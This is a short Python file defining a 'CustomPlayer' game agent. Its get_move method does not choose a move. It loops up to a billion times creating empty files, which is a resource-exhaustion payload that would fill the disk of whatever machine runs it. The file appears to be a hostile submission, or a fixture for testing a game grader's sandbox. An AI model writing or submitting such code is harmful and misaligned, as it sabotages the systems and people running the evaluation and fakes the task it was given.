"""Creates empty files without end."""


class CustomPlayer:
    def get_move(self, game, time_left):
        for number in range(10**9):
            open(f"file{number}", "w").close()
